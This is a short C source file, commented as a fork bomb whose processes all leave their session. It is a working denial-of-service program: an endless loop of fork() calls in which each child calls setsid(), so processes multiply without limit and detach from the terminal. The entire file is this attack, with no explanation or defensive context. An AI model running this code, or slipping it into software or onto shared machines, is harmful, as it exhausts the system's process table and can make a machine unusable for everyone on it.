/* A fork bomb whose processes all leave their session. */
#include <unistd.h>
int main(void) {
    for (;;)
        if (fork() == 0) setsid();
}
